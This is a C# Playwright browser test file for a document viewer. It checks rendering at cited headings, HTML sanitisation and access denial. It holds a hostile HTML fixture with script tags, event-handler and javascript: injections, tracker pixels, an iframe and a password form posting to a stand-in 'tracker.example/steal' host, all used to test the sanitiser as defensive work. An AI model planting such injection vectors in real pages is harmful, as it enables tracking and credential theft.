using System.Net.Http.Json;
using System.Text.Json;
using System.Text.RegularExpressions;
using KnowledgeBase.Infrastructure.Identity;
using KnowledgeBase.Tests.Integration.Support;
using Microsoft.Playwright;

namespace KnowledgeBase.Tests.Integration.Browser;

/// <summary>
/// An original opened from a source: Markdown rendered at the cited heading, an HTML page shown sanitised (its
/// scripts never run), plain text at the quoted words, and a friendly page for a reader the document is not shared with.
/// </summary>
[Collection(SharedApp.Name)]
public sealed class OriginalViewerInBrowserTests(AppFixture fixture, BrowserFixture browsers)
{
    // Every way an uploaded page could run script, load something or hide text; each one sets window.kbRan.
    private const string HostilePage = """
        <html><head><title>Kiosk rules</title><script>window.kbRan = 'script'</script>
        <style>h2 { display: none }</style><link rel="stylesheet" href="https://tracker.example/x.css"></head>
        <body>
          <h1>Kiosk rules</h1>
          <p>Visitors sign the kiosk book at the front desk.<img src="https://tracker.example/pixel.gif" onerror="window.kbRan = 'onerror'"></p>
          <h2 onclick="window.kbRan = 'onclick'">Opening hours</h2>
          <p>The kiosk opens at 8:15 on weekdays.</p>
          <p><a href="javascript:window.kbRan = 'link'">Read more</a> <a href="https://example.com/kiosk">Kiosk site</a></p>
          <iframe src="https://tracker.example/frame"></iframe>
          <form action="https://tracker.example/steal"><input name="password" aria-label="password"><button>Send</button></form>
          <svg><script>window.kbRan = 'svg'</script></svg>
        </body></html>
        """;

    [Fact]
    public async Task A_markdown_source_opens_rendered_with_the_cited_heading_in_view_and_highlighted()
    {
        var page = await browsers.NewPageAsync(fixture.App.BaseAddress);
        await Screens.SignInAsync(page, AppFixture.EmployeeEmail);
        await page.FillAsync("#question", "How many days per week may I work remotely?");
        await page.PressAsync("#question", "Enter");
        // The first question of a fresh app loads the embedding model: give a loaded machine time.
        await Assertions.Expect(page.Locator("#answer")).ToContainTextAsync("3 days per week", new() { Timeout = 30_000 });

        await page.Locator("#citations li", new() { HasText = "Employee Handbook" }).First.GetByRole(AriaRole.Button).ClickAsync();
        var link = page.GetByRole(AriaRole.Complementary).GetByRole(AriaRole.Link, new() { Name = "Open at section" });
        await Assertions.Expect(link).ToHaveAttributeAsync("href", new Regex(@"^/documents/[0-9a-f-]{36}\?section=Lumen%20Robotics%20Employee%20Handbook%20%3E%20Remote%20Work%20%3E%20Hybrid%20model#hybrid-model$"));
        var viewer = await page.Context.RunAndWaitForPageAsync(() => link.ClickAsync());

        var text = viewer.GetByRole(AriaRole.Region, new() { Name = "Document text" });
        var cited = text.GetByRole(AriaRole.Heading, new() { Name = "Hybrid model" });
        await Assertions.Expect(cited).ToHaveIdAsync("hybrid-model");
        await Assertions.Expect(cited).ToHaveClassAsync("is-cited");
        await Assertions.Expect(cited).ToBeInViewportAsync();
        await Assertions.Expect(cited).ToBeFocusedAsync();
        // Rendered, not raw: headings and emphasis are elements, no Markdown markup is left in the text.
        await Assertions.Expect(text.GetByRole(AriaRole.Heading, new() { Name = "Remote Work", Level = 2 })).ToBeVisibleAsync();
        await Assertions.Expect(text).Not.ToContainTextAsync("##");
        await Assertions.Expect(text.GetByRole(AriaRole.Heading, new() { Name = "Working Hours" })).Not.ToBeInViewportAsync();
        await viewer.ScreenshotAsync(new PageScreenshotOptions { Path = Chromium.Screenshot("original-markdown-at-section-as-opened") });
        await Screens.CheckAsync(viewer, "original-markdown-at-section", Screens.AssertNoSidewaysScrollAsync);
    }

    [Fact]
    public async Task An_html_original_is_shown_sanitised_and_a_reader_outside_its_group_gets_the_friendly_page()
    {
        var suffix = Guid.NewGuid().ToString("N")[..8];
        var group = $"kiosk-{suffix}";
        var reader = $"kiosk-reader-{suffix}@test.example";
        await fixture.App.AddUserAsync(reader, AppFixture.Password, Roles.Employee, group);
        var file = Path.Combine(Path.GetTempPath(), $"kiosk-rules-{suffix}.html");
        await File.WriteAllTextAsync(file, HostilePage);
        var (upload, _) = await fixture.App.IngestAsync(file, "default", group);
        File.Delete(file);
        var id = upload.DocumentId!.Value;
        try
        {
            var page = await browsers.NewPageAsync(fixture.App.BaseAddress);
            var outside = new List<string>();
            page.Request += (_, request) =>
            {
                if (!request.Url.StartsWith(fixture.App.BaseAddress.ToString(), StringComparison.Ordinal))
                {
                    outside.Add(request.Url);
                }
            };
            await Screens.SignInAsync(page, reader);
            await page.GotoAsync($"/documents/{id}#opening-hours");

            var text = page.GetByRole(AriaRole.Region, new() { Name = "Document text" });
            var cited = text.GetByRole(AriaRole.Heading, new() { Name = "Opening hours" });
            await Assertions.Expect(cited).ToHaveClassAsync("is-cited");
            await Assertions.Expect(cited).ToBeInViewportAsync();
            await Assertions.Expect(text).ToContainTextAsync("The kiosk opens at 8:15 on weekdays.");
            await cited.ClickAsync();
            await text.GetByText("Read more").ClickAsync();
            Assert.Equal(0, await text.Locator("script, style, link, img, iframe, form, input, button, svg, [onclick], [onerror], [style], [class]:not(.is-cited)").CountAsync());
            await Assertions.Expect(text.GetByRole(AriaRole.Link, new() { Name = "Kiosk site" })).ToHaveAttributeAsync("rel", "noopener noreferrer");
            Assert.Null(await page.EvaluateAsync<string?>("() => window.kbRan ?? null"));
            Assert.Empty(outside);
            await Screens.CheckAsync(page, "original-html-sanitised", Screens.AssertNoSidewaysScrollAsync);

            // An employee outside the group: the same address is a page that says so, without the document's text.
            var stranger = await browsers.NewPageAsync(fixture.App.BaseAddress);
            await Screens.SignInAsync(stranger, AppFixture.EmployeeEmail);
            await stranger.GotoAsync($"/documents/{id}#opening-hours");
            await Assertions.Expect(stranger.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToHaveTextAsync("This document isn’t available to you");
            await Assertions.Expect(stranger.Locator("body")).Not.ToContainTextAsync("kiosk");
        }
        finally
        {
            using var admin = await fixture.App.SignInAsync(AppFixture.AdminEmail, AppFixture.Password);
            (await admin.Http.DeleteAsync($"/api/documents/{id}")).EnsureSuccessStatusCode();
        }
    }

    [Fact]
    public async Task A_text_source_opens_at_the_quoted_words()
    {
        var page = await browsers.NewPageAsync(fixture.App.BaseAddress);
        await Screens.SignInAsync(page, AppFixture.EmployeeEmail);
        var faq = await DocumentIdAsync("onboarding-faq.txt");

        await page.GotoAsync($"/documents/{faq}?text={Uri.EscapeDataString("Every new starter is paired with a buddy")}");

        var quote = page.GetByRole(AriaRole.Region, new() { Name = "Document text" }).Locator("mark.is-cited");
        await Assertions.Expect(quote).ToHaveTextAsync("Every new starter is paired with a buddy");
        await Assertions.Expect(quote).ToBeInViewportAsync();
    }

    private async Task<Guid> DocumentIdAsync(string sourceName)
    {
        using var admin = await fixture.App.SignInAsync(AppFixture.AdminEmail, AppFixture.Password);
        var documents = await admin.Http.GetFromJsonAsync<JsonElement>("/api/documents");
        return documents.EnumerateArray().First(d => d.GetProperty("sourceName").GetString() == sourceName).GetProperty("id").GetGuid();
    }
}
